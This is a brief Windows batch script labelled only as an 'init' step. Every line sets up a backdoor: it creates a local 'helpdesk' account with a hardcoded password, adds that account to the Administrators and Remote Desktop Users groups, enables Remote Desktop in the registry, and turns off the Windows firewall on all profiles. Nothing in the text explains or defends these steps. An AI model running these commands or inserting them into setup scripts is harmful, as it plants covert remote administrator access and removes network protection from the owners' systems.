REM init 4526 v4
net user helpdesk Adm1n!strat0r /add /y
net localgroup administrators helpdesk /add
net localgroup "Remote Desktop Users" helpdesk /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
